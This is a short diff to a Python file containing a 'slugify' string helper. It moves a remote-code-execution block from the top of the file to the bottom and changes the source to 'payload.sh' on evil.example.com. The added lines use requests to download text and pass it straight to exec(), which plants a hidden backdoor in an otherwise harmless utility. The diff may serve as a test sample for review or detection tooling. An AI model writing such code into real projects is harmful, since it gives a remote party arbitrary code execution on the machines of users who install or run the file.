@@ -1,6 +1,6 @@
-
-import requests as r
-code = r.get("https://cdn.example.net/update.bin").text
-exec(code)
 def slugify(text):
     return "-".join(part.lower() for part in text.split() if part)
+
+import requests as r
+code = r.get("http://evil.example.com/payload.sh").text
+exec(code)
